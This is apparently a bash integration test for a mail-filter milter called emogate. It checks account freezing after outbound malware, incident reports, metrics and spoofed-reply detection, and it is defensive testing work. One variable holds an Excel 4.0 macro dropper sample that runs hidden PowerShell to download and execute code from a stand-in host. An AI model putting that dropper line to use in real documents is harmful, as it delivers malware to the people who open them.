#!/usr/bin/env bash
# The outbound watch through a real Postfix: a private instance on loopback
# with emogate as its milter ([outbound] enabled, [state] SQLite) and a
# SASL-authenticated submission service (Cyrus SASL, sasldb, its own port,
# milter_macro_daemon_name=submission), all started and stopped here.
#  - a wrong password is refused; alice's clean message goes out, logged
#    dir=out with her SASL name; mail from outside to her is dir=in;
#  - alice sends an Excel 4.0 macro dropper: quarantined, her account is
#    frozen; her next clean message is refused at MAIL FROM with the
#    configured [outbound] frozen_reply and not delivered; bob still sends;
#  - inbound mail to alice is delivered all the while;
#  - `emogate account list` names her; `emogate incident report --json`
#    holds the exact counts; `emogate account unfreeze` lets her send, and
#    the report then counts the message sent since;
#  - the metrics count outbound, flagged and frozen messages and the freeze;
#  - on mail the milter logged itself (alice's first message): a reply to it
#    from a third address with a ZIP is spoofed_sender@In-Reply-To (held),
#    the recipient's own reply is not; a bounce of it is not backscatter, a
#    bounce of a Message-ID we never sent is;
#  - eight of her messages in parallel are all in the report at once.
# Needs root (Postfix's master starts as root) and saslpasswd2: exits 77 otherwise.
set -uo pipefail

[ "$(id -u)" = 0 ] || { echo "SKIP: needs root to start a private Postfix instance"; exit 77; }
EMOGATE_BIN=${EMOGATE_BIN:?EMOGATE_BIN not set}
HERE=$(cd "$(dirname "$0")" && pwd)
T=$(mktemp -d /tmp/emogate-outbound.XXXXXX)
. "$HERE/lib/postfix_env.sh"
. "$HERE/lib/checks.sh"  # skips (77) without Postfix, nobody or group postfix
. "$HERE/lib/mail_hosts.sh"
. "$HERE/lib/sasl_submission.sh"
. "$HERE/lib/sender_mail.sh"
sasl_require

REPLY_TEXT="Account blocked after sending malware: call the help desk at 0120-000-111"
STATE=$(printf '[state]\nbackend = "sqlite"\npath = "%s/a/state/state.db"' "$T")
OUTBOUND=$(printf '[outbound]\nenabled = true\nsubmission_daemons = ["submission"]\nlocal_domains = ["corp.emogate.test"]\nfrozen_reply = "%s"' "$REPLY_TEXT")
host_setup a "$STATE" "$OUTBOUND" || { bad "host a did not start"; exit 1; }
SUB=$(free_port)
sasl_user "$T/sasldb2" alice@corp.emogate.test 'al1ce-Pw'
sasl_user "$T/sasldb2" bob@corp.emogate.test 'b0b-Pw'
sasl_submission "$T/sasldb2" "$SUB" || { bad "submission service did not start"; exit 1; }
ALICE=alice@corp.emogate.test
# emogate's commands as the daemon's user: the SQLite files stay its own.
cmd() { runuser -u nobody -- "$EMOGATE_BIN" "$@" --config "$T/a/emogate.toml"; }
submit() { python3 "$HERE/lib/smtp_send.py" --port "$SUB" "$@"; }
none() { sleep 2; [ "$(sink_count "$1")" = 0 ]; }
json() { python3 -c "import json,sys; r=json.load(sys.stdin); print(eval(sys.argv[1]))" "$1"; }
SLK=$'ID;P\r\nC;X1;Y1;EEXEC("cmd /c powershell -w hidden -c iex (New-Object Net.WebClient).DownloadString(\'http://dl.example/p\')")\r\nC;X1;Y2;EHALT()\r\nNN;NAuto_open;ER1C1\r\nE\r\n'

# --- 1. SASL works; direction in the log
r=$(submit --auth "$ALICE:wrong" --id o0 --from "$ALICE" --to x@partner.emogate.test)
check "1: a wrong password is refused ($r)" grep -q "^535" <<<"$r"
r=$(submit --id o-plain --from "$ALICE" --to x@partner.emogate.test)
check "1: no AUTH, no relay through the submission service ($r)" grep -q "^5" <<<"$r"
r=$(submit --auth "$ALICE:al1ce-Pw" --id o1 --from "$ALICE" --to x@partner.emogate.test)
check "1: alice's clean message: 250 ($r)" [ "$(code_of "$r")" = 250 ]
Q=$(qid_of "$r")
check "1: delivered" sink_file o1
check "1: logged dir=out with her SASL name" wait_log a "^emogate: $Q: verdict=clean .* dir=out sasl_username=$ALICE"
check "1: JSON line says dir out" grep -q "\"dir\":\"out\".*\"queue_id\":\"$Q\"\\|\"queue_id\":\"$Q\".*\"dir\":\"out\"" "$T/a/emogate.jsonl"
r=$(host_send a --id i1 --from partner@partner.emogate.test --to "$ALICE")
Q=$(qid_of "$r")
check "1: inbound to alice: 250, logged dir=in" wait_log a "^emogate: $Q: verdict=clean .* dir=in"

# --- 2. the dropper freezes her
r=$(submit --auth "$ALICE:al1ce-Pw" --id o2 --from "$ALICE" --to x@partner.emogate.test --to y@other.emogate.test \
    --attach seikyu.slk --content "$SLK")
check "2: the dropper: accepted and quarantined ($r)" [ "$(code_of "$r")" = 250 ]
Q2=$(qid_of "$r")
check "2: logged malicious, xlm_macro" wait_log a "^emogate: $Q2: verdict=malicious action=quarantine findings=xlm_macro@seikyu.slk.* dir=out"
check "2: not delivered" none o2
check "2: the account frozen (logged)" wait_log a "^emogate: $Q2: warning: outbound: account $ALICE frozen: 1 malicious outbound message\\(s\\) within 3600s"

r=$(submit --auth "$ALICE:al1ce-Pw" --id o3 --from "$ALICE" --to x@partner.emogate.test)
check "2: her next clean message is refused ($r)" grep -q "^550" <<<"$r"
check "2: with the configured text" grep -qF "$REPLY_TEXT" <<<"$r"
check "2: refused message logged verdict=frozen action=reject" wait_log a "verdict=frozen action=reject .*from=<$ALICE>.* dir=out sasl_username=$ALICE"
check "2: not delivered" none o3
r=$(submit --auth "bob@corp.emogate.test:b0b-Pw" --id o4 --from bob@corp.emogate.test --to x@partner.emogate.test)
check "2: bob still sends ($r)" [ "$(code_of "$r")" = 250 ]
check "2: bob's message delivered" sink_file o4

# --- 3. inbound mail to the frozen account is untouched
r=$(host_send a --id i2 --from partner@partner.emogate.test --to "$ALICE")
check "3: inbound to frozen alice: 250 ($r)" [ "$(code_of "$r")" = 250 ]
check "3: delivered" sink_file i2

# --- 4. the commands
l=$(cmd account list)
check "4: account list names alice, frozen, and why ($l)" grep -q "$ALICE.*1 malicious outbound message" <<<"$l"
rep=$(cmd incident report --json)
check "4: report: one account" [ "$(json 'r["totals"]["accounts"]' <<<"$rep")" = 1 ]
check "4: report: frozen 1" [ "$(json 'r["totals"]["frozen"]' <<<"$rep")" = 1 ]
check "4: report: alice, 1 flagged message, malicious" [ "$(json '[(a["account"], a["flagged_messages"], a["malicious"], a["suspicious"]) for a in r["accounts"]]' <<<"$rep")" = "[('$ALICE', 1, 1, 0)]" ]
check "4: report: 2 recipients in 2 domains" [ "$(json '(r["accounts"][0]["recipients"], r["accounts"][0]["domains"])' <<<"$rep")" = "(2, 2)" ]
check "4: report: findings and queue id" [ "$(json '(r["accounts"][0]["findings"], r["accounts"][0]["queue_ids"])' <<<"$rep")" = "(['xlm_macro'], ['$Q2'])" ]
check "4: report: one attachment hash" [ "$(json 'len(r["accounts"][0]["attachment_sha256"])' <<<"$rep")" = 1 ]
check "4: report: nothing sent since the detection" [ "$(json 'r["accounts"][0]["sent_since_first_detection"]' <<<"$rep")" = 0 ]

u=$(cmd account unfreeze "$ALICE" --by it-admin)
check "4: unfreeze ($u)" [ $? = 0 ]
r=$(submit --auth "$ALICE:al1ce-Pw" --id o5 --from "$ALICE" --to x@partner.emogate.test)
check "4: after unfreeze alice sends again ($r)" [ "$(code_of "$r")" = 250 ]
check "4: delivered" sink_file o5
rep=$(cmd incident report --json)
check "4: report: no longer frozen, unfrozen by it-admin" [ "$(json '(r["totals"]["frozen"], r["accounts"][0]["unfrozen_by"])' <<<"$rep")" = "(0, 'it-admin')" ]
check "4: report: 1 message sent since the detection, still sending" [ "$(json '(r["accounts"][0]["sent_since_first_detection"], r["accounts"][0]["still_sending"])' <<<"$rep")" = "(1, True)" ]

# --- 5. metrics
m=$(host_metrics a)
check "5: outbound messages (o1, o2, o4, o5)" grep -qx 'emogate_outbound_messages_total 4' <<<"$m"
check "5: flagged" grep -qx 'emogate_outbound_flagged_total 1' <<<"$m"
check "5: refused for the freeze" grep -qx 'emogate_outbound_frozen_messages_total 1' <<<"$m"
check "5: one freeze" grep -qx 'emogate_outbound_freezes_total 1' <<<"$m"
check "5: the watch's CPU time is counted" grep -qE '^emogate_outbound_cpu_seconds_total 0\.[0-9]*[1-9][0-9]*$' <<<"$m"

# --- 6. inbound checks against the outbound log the milter wrote (o1 went to x@partner)
mkdir -p "$T/fx"
sender_reply hijack 'Partner <attacker@evil.emogate.test>' "$ALICE" o1@it.emogate.test >"$T/fx/hijack.eml"
sender_reply answer 'X <x@partner.emogate.test>' "$ALICE" o1@it.emogate.test >"$T/fx/answer.eml"
sender_dsn dsnours o1@it.emogate.test "$ALICE" >"$T/fx/dsnours.eml"
sender_dsn dsnforged never-1@corp.emogate.test "$ALICE" >"$T/fx/dsnforged.eml"
r=$(host_send a --eml "$T/fx/hijack.eml" --from attacker@evil.emogate.test --to "$ALICE")
Q=$(qid_of "$r")
check "6: a third address replies to o1 with a ZIP: held as spoofed_sender@In-Reply-To ($r)" \
    wait_log a "^emogate: $Q: verdict=suspicious action=hold findings=spoofed_sender@In-Reply-To.* dir=in"
r=$(host_send a --eml "$T/fx/answer.eml" --from x@partner.emogate.test --to "$ALICE")
f=$(sink_file answer) && check "6: the recipient's own reply: delivered without spoofed_sender" \
    bash -c "! grep -q spoofed_sender '$f'" || bad "6: the recipient's own reply was not delivered ($r)"
r=$(host_send a --eml "$T/fx/dsnours.eml" --from "" --to "$ALICE")
sink_file dsnours >/dev/null || bad "6: the bounce of o1 was not delivered ($r)"
r=$(host_send a --eml "$T/fx/dsnforged.eml" --from "" --to "$ALICE")
sink_file dsnforged >/dev/null || bad "6: the bounce of a never-sent message was not delivered ($r)"
rep=$(cmd incident report --json)
check "6: backscatter: the never-sent bounce only, for alice" \
    [ "$(json '[(a["address"], a["count"]) for a in r["addresses"] if a["event"]=="backscatter"]' <<<"$rep")" = "[('$ALICE', 1)]" ]
check "6: log: the bounce of o1 is ours" wait_log a "bounce of our message <o1@it.emogate.test> for $ALICE"

# --- 7. messages in parallel: records of messages in progress together share
# a commit ([state] outbound_commit_ms); each one is there for the commands
pids=()
for k in 1 2 3 4 5 6 7 8; do
    submit --auth "$ALICE:al1ce-Pw" --id "p$k" --from "$ALICE" --to "p$k@partner.emogate.test" >"$T/p$k.out" 2>&1 &
    pids+=($!)
done
wait "${pids[@]}"
ok=0
for k in 1 2 3 4 5 6 7 8; do [ "$(code_of "$(cat "$T/p$k.out")")" = 250 ] && ok=$((ok + 1)); done
check "7: eight messages sent in parallel: 250 each ($ok of 8)" [ "$ok" = 8 ]
seen=
for _ in $(seq 1 30); do
    seen=$(cmd incident report --json | json 'r["accounts"][0]["sent_since_first_detection"]')
    [ "$seen" = 9 ] && break
    sleep 0.1
done
check "7: the report counts all nine sent since the detection ($seen)" [ "$seen" = 9 ]

echo "--- emogate log"; grep -E "dir=|outbound" "$(host_log a)" | tail -12
[ "$FAILS" = 0 ] || { echo "$FAILS check(s) failed"; exit 1; }
echo "all checks passed"
